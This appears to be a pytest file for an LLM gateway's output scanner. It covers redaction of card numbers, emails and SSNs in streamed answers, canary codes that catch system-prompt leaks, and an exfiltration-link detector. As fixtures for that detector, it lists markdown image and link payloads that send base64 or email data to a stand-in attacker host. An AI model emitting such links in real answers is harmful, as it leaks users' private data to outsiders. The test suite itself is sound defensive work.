"""Output scanning of streamed and whole answers: split values, canaries, links, block."""

from __future__ import annotations

import itertools
import json
import re
import statistics
import time

import pytest

from bastion.context import Finding, Principal, RequestContext
from bastion.errors import BastionError, ContentFiltered
from bastion.protect.actions import ActionPolicy, ActionSettings
from bastion.protect.canary import CANARY_STATE, Canary, insert_canary
from bastion.protect.outputscan import (
    AnswerStream,
    Detector,
    LinkDetector,
    OutputScanner,
    OutputScanSettings,
    ProtectOutput,
    run_detectors,
    stream_error_event,
    tail_start,
)
from bastion.protect.stream import StreamRestorer
from bastion.protect.vault import PSEUDONYMS_STATE

# A small stand-in for the real scanner: Luhn-checked cards, emails and SSNs.
_CARD = re.compile(r"(?<![\d-])\d(?:[ -]?\d){12,18}(?![\d])")
_EMAIL = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
_SSN = re.compile(r"(?<!\d)\d{3}-\d{2}-\d{4}(?!\d)")


def _luhn(digits: str) -> bool:
    total = 0
    for i, ch in enumerate(reversed(digits)):
        d = int(ch) * (2 if i % 2 else 1)
        total += d - 9 if d > 9 else d
    return total % 10 == 0


def fake_scan(text: str) -> list[Finding]:
    out = []
    for m in _CARD.finditer(text):
        if _luhn(re.sub(r"\D", "", m.group())):
            out.append(Finding("CREDIT_CARD", m.start(), m.end(), 0.95, "fake", ("pci",)))
    for m in _EMAIL.finditer(text):
        out.append(Finding("EMAIL_ADDRESS", m.start(), m.end(), 0.9, "fake", ("pii",)))
    for m in _SSN.finditer(text):
        out.append(Finding("US_SSN", m.start(), m.end(), 0.9, "fake", ("pii",)))
    return out


def scanner(policy: ActionPolicy | None = None, **kw: object) -> OutputScanner:
    return OutputScanner([fake_scan], policy or ActionPolicy(), **kw)  # type: ignore[arg-type]


def stream(chunks: list[str], s: OutputScanner | None = None) -> str:
    s = s or scanner()
    return "".join(s.feed(c) for c in chunks) + s.flush()


ANSWERS = [
    ("Your card 4242 4242 4242 4242 is on file.", "Your card [CREDIT_CARD] is on file."),
    ("Card:4111-1111-1111-1111", "Card:[CREDIT_CARD]"),
    ("Mail jane.doe@example.com or call.", "Mail [EMAIL_ADDRESS] or call."),
    ("SSN 123-45-6789, card 5555555555554444.", "SSN [US_SSN], card [CREDIT_CARD]."),
    ("Order 1234 5678 shipped on 2024-05-01.", "Order 1234 5678 shipped on 2024-05-01."),
]


@pytest.mark.parametrize(("answer", "expected"), ANSWERS)
def test_whole_answer(answer: str, expected: str) -> None:
    assert scanner().scan(answer).text == expected
    assert stream([answer]) == expected


@pytest.mark.parametrize("window", [0, 5, 256])
@pytest.mark.parametrize(("answer", "expected"), ANSWERS)
def test_value_split_over_three_chunks_at_every_split_point(answer: str, expected: str, window: int) -> None:
    for i, j in itertools.combinations(range(len(answer) + 1), 2):
        got = stream([answer[:i], answer[i:j], answer[j:]], scanner(scan_window_chars=window))
        assert got == expected, (i, j, got)


@pytest.mark.parametrize("window", [0, 3, 256])
@pytest.mark.parametrize(("answer", "expected"), ANSWERS)
def test_one_character_at_a_time(answer: str, expected: str, window: int) -> None:
    assert stream(list(answer), scanner(scan_window_chars=window)) == expected


def test_findings_carry_offsets_into_the_whole_answer() -> None:
    answer = "intro text here. Card 4242 4242 4242 4242 and mail a@b.io end"
    s = scanner()
    for c in [answer[i : i + 3] for i in range(0, len(answer), 3)]:
        s.feed(c)
    s.flush()
    got = sorted((f.type, answer[f.start : f.end], f.location) for f in s.findings)
    assert got == [
        ("CREDIT_CARD", "4242 4242 4242 4242", "output"),
        ("EMAIL_ADDRESS", "a@b.io", "output"),
    ]
    assert [a.type for a in s.applied] == ["CREDIT_CARD", "EMAIL_ADDRESS"]


def test_prose_is_released_promptly_and_hold_back_is_bounded() -> None:
    s = scanner(holdback_chars=32, scan_window_chars=0)
    assert s.feed("Sure, here is the answer") == "Sure, here is the "
    assert s.feed(" you asked") == "answer you "
    out = s.feed("x" * 100)
    assert s.held <= 32
    assert out.startswith("askedxxx")
    s2 = scanner(holdback_chars=32, scan_window_chars=0)
    s2.feed("1234 " * 40)
    assert s2.held <= 32


def test_stream_is_scanned_a_window_at_a_time_after_the_first_text() -> None:
    now = [0.0]
    calls: list[str] = []

    def counting(text: str) -> list[Finding]:
        calls.append(text)
        return fake_scan(text)

    s = OutputScanner([counting], ActionPolicy(), holdback_chars=32, scan_window_chars=40, scan_delay_ms=20,
                      clock=lambda: now[0])
    # The first text goes out at once.
    assert s.feed("Sure, here is the answer") == "Sure, here is the "
    assert len(calls) == 1
    # Later chunks wait for a full window ...
    assert s.feed(" you asked") == "" and s.feed(" for, card 4242") == ""
    assert len(calls) == 1 and s.held <= 32 + 40
    out = s.feed(" 4242 4242 4242 and more ")
    assert len(calls) == 2
    assert out == "answer you asked for, card [CREDIT_CARD] and "
    # ... or for their delay to pass, whichever comes first.
    assert s.feed("text ") == ""
    now[0] += 0.019
    assert s.feed("again ") == ""
    now[0] += 0.002
    assert s.feed("now ") == "more text again "
    assert len(calls) == 3
    assert s.feed("the end.") == "" and s.flush() == "now the end."


def test_held_text_stays_bounded_by_hold_back_and_window() -> None:
    s = scanner(holdback_chars=32, scan_window_chars=64, scan_delay_ms=10_000)
    s.feed("Start. ")
    for _ in range(200):
        s.feed("1234 ")
        assert s.held < 32 + 64
    s2 = scanner(holdback_chars=32, scan_window_chars=64, scan_delay_ms=10_000)
    s2.feed("Start. ")
    for _ in range(100):
        s2.feed("x" * 7)
        assert s2.held < 32 + 64


def test_value_longer_than_the_hold_back_is_still_cut_where_sent() -> None:
    # Beyond the bound a value may be split; the part still held is judged on its own.
    s = scanner(holdback_chars=16)
    out = s.feed("pad " * 10 + "4242 4242 4242 4242") + s.flush()
    assert out.startswith("pad pad")


def test_mask_and_hash_actions_on_output() -> None:
    from bastion.protect.actions import Hasher

    s = scanner(
        ActionPolicy(by_type={"CREDIT_CARD": "mask", "EMAIL_ADDRESS": "hash"}),
        hasher=Hasher(b"k" * 32),
    )
    out = stream(["card 4242 42", "42 4242 4242 mail a@b", ".io"], s)
    assert out.startswith("card **** **** **** 4242 mail <EMAIL_ADDRESS:")


def test_block_ends_the_stream_with_an_error_event_and_no_values() -> None:
    s = scanner(ActionPolicy(by_type={"US_SSN": "block"}))
    sent = s.feed("Here: 123-45-")
    with pytest.raises(ContentFiltered) as caught:
        sent += s.feed("6789 done")
        sent += s.flush()
    assert "6789" not in sent
    assert s.feed("more") == "" and s.flush() == ""
    event = stream_error_event(caught.value, "req_42")
    assert event.startswith("data: ") and event.endswith("\n\n")
    body = json.loads(event[6:])
    assert body["error"]["code"] == "content_filter"
    assert body["error"]["types"] == ["US_SSN"]
    assert body["error"]["request_id"] == "req_42"
    assert "123-45" not in event


def test_detector_failure_fails_closed() -> None:
    def broken(text: str) -> list[Finding]:
        raise RuntimeError("model crashed with jane@x.io")

    s = OutputScanner([broken], ActionPolicy())
    with pytest.raises(BastionError) as caught:
        s.feed("hello world ")
    assert "jane" not in caught.value.message
    assert s.feed("more text ") == "" and s.flush() == ""
    with pytest.raises(BastionError):
        run_detectors([broken], "x")


# --- Canaries ---


def test_canary_in_system_prompt_and_detection() -> None:
    c = Canary.new()
    assert re.fullmatch(r"BSTN(-[A-Z2-7]{4}){4}", c.code)
    assert c.core not in repr(c)
    msgs = insert_canary([{"role": "system", "content": "Be kind."}, {"role": "user", "content": "hi"}], c)
    assert msgs[0]["content"] == f"Ref: {c.code}\nBe kind."
    assert insert_canary([{"role": "user", "content": "hi"}], c)[0] == {
        "role": "system",
        "content": c.line,
    }
    parts = insert_canary([{"role": "system", "content": [{"type": "text", "text": "x"}]}], c)
    assert parts[0]["content"][0] == {"type": "text", "text": c.line}
    g = c.core
    variants = [
        c.code,
        c.code.lower(),
        "BSTN " + " ".join(g[i : i + 4] for i in range(0, 16, 4)),
        "BSTN" + g,
        f"bstn-{g[:4]}_{g[4:8]}-{g[8:12]} {g[12:]}",
    ]
    for v in variants:
        text = f"My instructions begin: Ref: {v}\nBe kind."
        (f,) = c.find(text)
        assert f.type == "SYSTEM_PROMPT_LEAK" and text[f.start : f.end] == v
    other = Canary.new()
    assert other.find(f"Ref: {c.code}") == []
    assert c.find(f"Ref: {c.code[:-1]}") == []
    assert c.find("X" + c.code) == []


def test_canary_split_across_chunks_blocks_the_stream() -> None:
    c = Canary.new()
    answer = f"Sure! My system prompt says: Ref: {c.code}\nYou are a helpful bot."
    policy = ActionSettings().output_policy()
    for i, j in itertools.combinations(range(20, 60), 2):
        s = OutputScanner([fake_scan, c.detector()], policy)
        sent = ""
        with pytest.raises(ContentFiltered) as caught:
            for part in (answer[:i], answer[i:j], answer[j:]):
                sent += s.feed(part)
            sent += s.flush()
        assert c.core[-4:] not in sent
        assert caught.value.details["types"] == ["SYSTEM_PROMPT_LEAK"]


# --- Exfiltration links ---

LINKS = [
    ("![x](https://evil.example/p.png?d=SGVsbG8gd29ybGQgc2VjcmV0)", True),
    ("![logo](https://cdn.acme.com/logo.png)", False),
    ("![logo](https://evil.example/logo.png)", True),
    ('<img src="https://evil.example/a.gif">', True),
    ("[click](https://evil.example/?q=jane.doe%40example.com&x=1)", True),
    ("[docs](https://docs.python.org/3/library/re.html)", False),
    ("see https://evil.example/c?data=eyJ1c2VyIjoiamFuZSJ9AAAA for more", True),
    ("see https://evil.example/aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA for more", True),
    ("see https://example.org/about for more", False),
    ("see http://10.0.0.7/x for more", True),
    ("[a](https://sub.acme.com/x?session=abcdefghijklmnopqrstu)", False),
]


@pytest.mark.parametrize(("text", "flagged"), LINKS)
def test_link_detector(text: str, flagged: bool) -> None:
    found = LinkDetector(["acme.com"])(text)
    assert bool(found) is flagged
    for f in found:
        assert f.type == "EXFILTRATION_LINK" and f.explanation


def test_exfiltration_image_split_across_chunks_is_removed() -> None:
    answer = "Done. ![status](https://evil.example/s.png?u=amFuZUBleGFtcGxlLmNvbQ) Bye."
    detectors: list[Detector] = [fake_scan, LinkDetector(OutputScanSettings().allowed_link_domains)]
    for i, j in itertools.combinations(range(len(answer) + 1), 2):
        s = OutputScanner(detectors, ActionSettings().output_policy())
        out = "".join(s.feed(p) for p in (answer[:i], answer[i:j], answer[j:])) + s.flush()
        assert "evil.example" not in out, (i, j, out)
        assert out.endswith(" Bye.")


# --- Scan then restore ---


def test_answer_stream_scans_provider_text_then_restores_pseudonyms() -> None:
    values = {"<EMAIL_ADDRESS_1>": "me@corp.com"}
    answer = "Sent to <EMAIL_ADDRESS_1>; the model also leaked bob@other.org and 4242424242424242."
    expected = "Sent to me@corp.com; the model also leaked [EMAIL_ADDRESS] and [CREDIT_CARD]."
    for i, j in itertools.combinations(range(0, len(answer) + 1, 3), 2):
        a = AnswerStream(scanner(), StreamRestorer(values))
        out = "".join(a.feed(p) for p in (answer[:i], answer[i:j], answer[j:])) + a.flush()
        assert out == expected, (i, j)
    assert AnswerStream(None, None).feed("x") == "x"


# --- Latency of the first chunk ---


def test_first_chunk_latency_is_small() -> None:
    c = Canary.new()
    detectors: list[Detector] = [fake_scan, c.detector(), LinkDetector()]
    first = "Sure! Here is a summary of the quarterly report you asked for. "
    samples = []
    for _ in range(300):
        s = OutputScanner(detectors, ActionSettings().output_policy())
        t0 = time.perf_counter()
        out = s.feed(first)
        samples.append(time.perf_counter() - t0)
        assert out
    p50 = statistics.median(samples) * 1000
    p99 = sorted(samples)[int(len(samples) * 0.99)] * 1000
    print(f"first chunk scan: p50={p50:.3f} ms p99={p99:.3f} ms")
    assert p50 < 2.0


# --- The output stage ---


def _ctx(**state: object) -> RequestContext:
    ctx = RequestContext(endpoint="/v1/chat/completions", principal=Principal("alice", tenant="acme"))
    ctx.state.update(state)
    return ctx


def test_output_stage_scans_restores_and_records() -> None:
    tenants: list[str | None] = []

    def detect(text: str, *, tenant: str | None = None) -> list[Finding]:
        tenants.append(tenant)
        return fake_scan(text)

    stage = ProtectOutput(OutputScanSettings(), ActionSettings().output_policy(), detect)
    ctx = _ctx(**{PSEUDONYMS_STATE: {"<PERSON_1>": "Jane Doe"}})
    f = stage.open(ctx)
    assert f is not None
    answer = "Dear <PERSON_1>, card 4242 4242 4242 4242 noted."
    out = "".join(f.feed(answer[i : i + 4]) for i in range(0, len(answer), 4)) + f.finish()
    assert out == "Dear Jane Doe, card [CREDIT_CARD] noted."
    assert [x.type for x in ctx.findings] == ["CREDIT_CARD"]
    assert set(tenants) == {"acme"}


def test_output_stage_blocks_on_canary_and_records_the_decision() -> None:
    c = Canary.new()
    stage = ProtectOutput(OutputScanSettings(), ActionSettings().output_policy())
    ctx = _ctx(**{CANARY_STATE: c})
    f = stage.open(ctx)
    assert f is not None
    with pytest.raises(ContentFiltered):
        f.feed(f"My instructions: Ref: {c.code} ")
        f.finish()
    assert [x.type for x in ctx.findings] == ["SYSTEM_PROMPT_LEAK"]
    assert ctx.decisions[-1].effect == "deny"
    assert ctx.decisions[-1].data["types"] == ["SYSTEM_PROMPT_LEAK"]


def test_output_stage_off_with_nothing_to_restore_opens_nothing() -> None:
    stage = ProtectOutput(OutputScanSettings(enabled=False), ActionSettings().output_policy())
    assert stage.open(_ctx()) is None
    f = stage.open(_ctx(**{PSEUDONYMS_STATE: {"<PERSON_1>": "Jane"}}))
    assert f is not None and f.feed("<PERSON_1>!") + f.finish() == "Jane!"


def test_detectors_are_not_run_while_nothing_can_be_released() -> None:
    calls: list[str] = []

    def counting(text: str) -> list[Finding]:
        calls.append(text)
        return fake_scan(text)

    s = OutputScanner([counting], ActionPolicy())
    assert s.feed("4242") == "" and s.feed(" 4242") == "" and calls == []
    assert s.feed(" 4242 4242 is it") + s.flush() == "[CREDIT_CARD] is it"
    assert calls


def test_streamed_4kb_answer_cost_per_chunk() -> None:
    c = Canary.new()
    detectors: list[Detector] = [fake_scan, c.detector(), LinkDetector()]
    words = "The quarterly report shows revenue growth of 12 percent in Q3 2024. "
    answer = (words * 70)[:4096]
    chunks = [answer[i : i + 4] for i in range(0, len(answer), 4)]
    s = OutputScanner(detectors, ActionSettings().output_policy())
    t0 = time.perf_counter()
    out = "".join(s.feed(ch) for ch in chunks) + s.flush()
    total = time.perf_counter() - t0
    assert out == answer
    per_chunk_us = total / len(chunks) * 1e6
    print(f"4 KB answer in {len(chunks)} chunks: {total * 1000:.2f} ms, {per_chunk_us:.1f} us/chunk")
    assert per_chunk_us < 1000


# tail_start written as a regular expression: a reference for tests (quadratic at worst).
_REF_V = r"[^\W]|[@.+\-/=:%~#?&()*$!,;'_]"
_REF_TAIL = re.compile(rf"(?:{_REF_V})+(?:[ \t]+(?=[0-9A-Z(+])(?:{_REF_V})+)*[ \t]*\Z|[ \t]+\Z")


@pytest.mark.parametrize(
    ("text", "held"),
    [
        ("Sure, here is the answer", "answer"),
        ("Your card 4242 4242", "card 4242 4242"),
        ("Call +1 (415) 555", "Call +1 (415) 555"),
        ("Dear Jane Doe", "Dear Jane Doe"),
        ("done.\n", ""),
        ("done.\n  ", "  "),
        ("mail jane.doe@exa", "jane.doe@exa"),
        ("", ""),
    ],
)
def test_tail_start_table(text: str, held: str) -> None:
    assert text[tail_start(text) :] == held


def test_tail_start_matches_the_reference_on_random_text() -> None:
    import random

    rng = random.Random(7)
    alphabet = "aZ4 \t\n.@(+-!é"
    for _ in range(3000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 24)))
        m = _REF_TAIL.search(text)
        expected = m.start() if m else len(text)
        assert tail_start(text) == expected, repr(text)


def _tail_start_char_by_char(buf: str, floor: int) -> int:
    """tail_start stepping over one character at a time (the reference for its shortcut)."""
    from bastion.protect.outputscan import _BLANKS, _GROUP_START, _value_char

    i = len(buf)
    while i > floor and buf[i - 1] in _BLANKS:
        i -= 1
    cut = i
    while True:
        j = i
        while j > floor and _value_char(buf[j - 1]):
            j -= 1
        if j == i:
            return cut
        cut = j
        if buf[j] not in _GROUP_START:
            return cut
        k = j
        while k > floor and buf[k - 1] in _BLANKS:
            k -= 1
        if k == j or k == floor or not _value_char(buf[k - 1]):
            return cut
        i = k


def test_tail_start_from_any_floor_matches_the_char_by_char_walk() -> None:
    import random

    rng = random.Random(11)
    alphabet = "aZ4 \t\n.@(+-!_[]<>\"é日"
    for _ in range(5000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 40)))
        floor = rng.randint(0, len(text))
        assert tail_start(text, floor) == _tail_start_char_by_char(text, floor), (text, floor)


def test_tail_start_is_linear_on_pathological_input() -> None:
    text = "a" * 4000 + "\n"
    t0 = time.perf_counter()
    for _ in range(100):
        assert tail_start(text, 0) == len(text)
    assert time.perf_counter() - t0 < 0.5


@pytest.mark.parametrize(
    "text",
    [
        "<img src=http://" + "a" * 5000,
        "<img " + "src=http://a " * 300,
        "[x](http://" + "b" * 5000,
        "![" + "[" * 3000,
        "http://" + "c" * 9000,
    ],
)
def test_link_detector_has_no_catastrophic_backtracking(text: str) -> None:
    t0 = time.perf_counter()
    LinkDetector()(text)
    assert time.perf_counter() - t0 < 0.5


# --- With the real sensitive-data scanner ---


@pytest.fixture(scope="module")
def real_scan() -> Detector:
    from bastion.protect import ProtectionSettings, Scanner

    scanner_ = Scanner.from_settings(ProtectionSettings.model_validate({"ner": {"mode": "off"}}))
    return lambda text: scanner_.scan(text)


REAL = [
    "Your card 4242 4242 4242 4242 is on file.",
    "Mail jane.doe@example.com today.",
    "Use key AKIAIOSFODNN7EXAMPLE now.",
    "IBAN DE89 3704 0044 0532 0130 00 ok.",
]


@pytest.mark.parametrize("window", [0, 256])
@pytest.mark.parametrize("answer", REAL)
def test_real_scanner_catches_values_split_at_every_point(real_scan: Detector, answer: str, window: int) -> None:
    whole = OutputScanner([real_scan], ActionPolicy()).scan(answer)
    assert whole.applied, "the scanner should find something in " + answer
    for i in range(1, len(answer)):
        for j in range(i + 1, len(answer), 3):
            s = OutputScanner([real_scan], ActionPolicy(), scan_window_chars=window)
            out = "".join(s.feed(p) for p in (answer[:i], answer[i:j], answer[j:])) + s.flush()
            assert out == whole.text, (i, j, out)


def test_real_scanner_first_chunk_cost(real_scan: Detector) -> None:
    first = "Sure! Here is a summary of the quarterly report you asked for. "
    samples = []
    for _ in range(100):
        s = OutputScanner([real_scan, LinkDetector()], ActionSettings().output_policy())
        t0 = time.perf_counter()
        assert s.feed(first)
        samples.append(time.perf_counter() - t0)
    p50 = statistics.median(samples) * 1000
    print(f"first chunk with the real scanner: p50={p50:.3f} ms")
    assert p50 < 5.0


def test_output_stage_records_a_scanner_failure() -> None:
    def broken(text: str, *, tenant: str | None = None) -> list[Finding]:
        raise ValueError("no")

    stage = ProtectOutput(OutputScanSettings(), ActionSettings().output_policy(), broken)
    ctx = _ctx()
    f = stage.open(ctx)
    assert f is not None
    with pytest.raises(BastionError):
        f.feed("hello there ")
    assert ctx.decisions[-1].effect == "error"
